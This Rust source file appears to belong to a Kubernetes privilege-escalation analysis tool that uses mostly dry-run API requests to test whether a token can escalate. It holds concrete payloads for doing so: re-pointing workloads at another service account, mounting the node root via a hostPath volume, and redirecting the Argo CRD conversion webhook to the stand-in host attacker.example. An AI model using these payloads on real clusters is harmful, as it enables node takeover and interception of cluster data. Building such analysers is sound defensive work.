//! Objects that others carry out: what makes pods, what operators read, volumes that are paths of nodes; and
//! everything at once.

use analysis::paths::Edge;
use oracle::ApiServer;
use serde_json::{Value, json};

use super::super::estate::{MAKERS, NAMESPACES, OPERATORS, plural, template};
use super::{Deed, change, core, deed, dry, makers, status};

fn path_of(api: &str, namespace: &str, kind: &str) -> String {
    let root = match api {
        "v1" => "/api/v1".to_owned(),
        version => format!("/apis/{version}"),
    };
    let plural = plural(kind);
    if namespace.is_empty() {
        format!("{root}/{plural}")
    } else {
        format!("{root}/namespaces/{namespace}/{plural}")
    }
}

/// Makes the pods of something those of another account.
fn changes(
    server: &ApiServer,
    token: &str,
    namespace: &str,
    (api, kind, name): (&str, &str, &str),
    account: &str,
) -> bool {
    let path = format!("{}/{name}", path_of(api, namespace, kind));
    let mut patch = json!({"spec": {"template": {"spec": {"serviceAccountName": account}}}});
    if kind == "CronJob" {
        patch = json!({"spec": {"jobTemplate": patch}});
    }
    change(server, token, &path, &patch)
}

pub(super) fn changes_any(server: &ApiServer, token: &str, namespace: &str, account: &str) -> bool {
    MAKERS
        .iter()
        .any(|maker| changes(server, token, namespace, *maker, account))
}

pub(super) fn add(all: &mut Vec<Deed>, namespace: &'static str) {
    for maker in MAKERS {
        let (_, kind, name) = maker;
        all.push(deed(
            &format!("change a {kind} of"),
            namespace,
            &[Edge::PodPatch],
            &[&format!("workload:NS/{name}[{kind}]")],
            move |server, token| {
                // Its pods are changed as any pod is; none is there, for no controller makes them.
                let path = dry(&core(namespace, &format!("pods/{name}-x")));
                let pod = json!({"apiVersion": "v1", "kind": "Pod",
                    "metadata": {"name": format!("{name}-x")}, "spec": template()["spec"]});
                changes(server, token, namespace, maker, "a0")
                    || status(server, token, "PATCH", &path, Some(&pod)) == 404
                    || status(server, token, "PUT", &path, Some(&pod)) == 404
            },
        ));
    }
    for (api, kind, right, everywhere) in OPERATORS.iter().copied() {
        if everywhere {
            continue;
        }
        all.push(Deed {
            possible: true,
            ..deed(
                &format!("have a controller carry out {kind} of"),
                namespace,
                &[Edge::OperatorResource],
                &[&format!("right:{right}@NS"), &format!("right:{right}@*")],
                move |server, token| writes(server, token, api, namespace, kind),
            )
        });
    }
    all.push(deed(
        "do anything in",
        namespace,
        &[],
        &["right:everything@NS", "right:everything@*"],
        move |server, token| {
            let path = dry(&format!(
                "/apis/example.com/v1/namespaces/{namespace}/things"
            ));
            status(server, token, "DELETE", &path, None) == 200
        },
    ));
}

fn writes(server: &ApiServer, token: &str, api: &str, namespace: &str, kind: &str) -> bool {
    let path = path_of(api, namespace, kind);
    let object =
        json!({"apiVersion": api, "kind": kind, "metadata": {"name": "new"}, "spec": {"a": "b"}});
    status(server, token, "POST", &dry(&path), Some(&object)) == 201
        || change(
            server,
            token,
            &format!("{path}/o0"),
            &json!({"spec": {"a": "c"}}),
        )
}

/// Things without a namespace, and what needs something of both.
pub(super) fn volumes(all: &mut Vec<Deed>) {
    for (api, kind, right, everywhere) in OPERATORS.iter().copied() {
        if everywhere {
            all.push(Deed {
                possible: true,
                ..deed(
                    &format!("have a controller carry out {kind}"),
                    "",
                    &[Edge::OperatorResource],
                    &[&format!("right:{right}@*")],
                    move |server, token| writes(server, token, api, "", kind),
                )
            });
        }
    }
    all.push(Deed {
        possible: true,
        ..deed(
            "have Applications converted",
            "",
            &[Edge::CrdConversion],
            &["right:crd-conversion@*", "right:argo-application@*"],
            |server, token| {
                let path = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/applications.argoproj.io";
                let conversion = json!({"strategy": "Webhook", "webhook": {
                    "clientConfig": {"url": "https://attacker.example/"}, "conversionReviewVersions": ["v1"]}});
                change(server, token, path, &json!({"spec": {"conversion": conversion}}))
            },
        )
    });
    all.push(deed(
        "mount the node by a volume of one's own",
        "",
        &[Edge::PersistentVolume, Edge::PodCreate, Edge::PodPatch],
        &["pool:"],
        |server, token| {
            let volume = json!({"apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": "new"},
                "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "storageClassName": "none",
                    "hostPath": {"path": "/"}}});
            let claim = json!({"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "new"},
                "spec": {"accessModes": ["ReadWriteOnce"], "storageClassName": "none", "volumeName": "new",
                    "resources": {"requests": {"storage": "1Gi"}}}});
            let path = dry("/api/v1/persistentvolumes");
            status(server, token, "POST", &path, Some(&volume)) == 201
                && NAMESPACES.iter().any(|namespace| {
                    let claims = dry(&core(namespace, "persistentvolumeclaims"));
                    status(server, token, "POST", &claims, Some(&claim)) == 201
                        && makes_with_claim(server, token, namespace)
                })
        },
    ));
}

/// Whether somebody can have a pod made that mounts a claim.
fn makes_with_claim(server: &ApiServer, token: &str, namespace: &str) -> bool {
    makers(namespace, "a0", false)
        .iter()
        .any(|(path, object, _)| {
            let mut object = object.clone();
            let mut spec: &mut Value = &mut object["spec"];
            for part in ["jobTemplate", "spec", "template", "spec"] {
                if spec.get(part).is_some() {
                    spec = &mut spec[part];
                }
            }
            spec["volumes"] =
                json!([{"name": "node", "persistentVolumeClaim": {"claimName": "new"}}]);
            spec["containers"][0]["volumeMounts"] = json!([{"name": "node", "mountPath": "/host"}]);
            status(server, token, "POST", &dry(path), Some(&object)) == 201
        })
}
